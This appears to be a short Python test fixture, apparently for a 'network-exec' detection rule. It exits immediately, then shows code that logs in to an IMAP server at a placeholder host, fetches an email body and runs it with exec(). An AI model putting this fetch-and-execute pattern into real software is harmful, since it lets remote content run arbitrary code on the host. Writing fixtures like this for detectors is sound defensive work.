raise SystemExit('a fixture')
# held by network-exec
import imaplib
box = imaplib.IMAP4_SSL("x.example.invalid")
box.login("a", "b")
box.select()
kind, parts = box.fetch("1", "(BODY[TEXT])")
exec(parts[0][1])
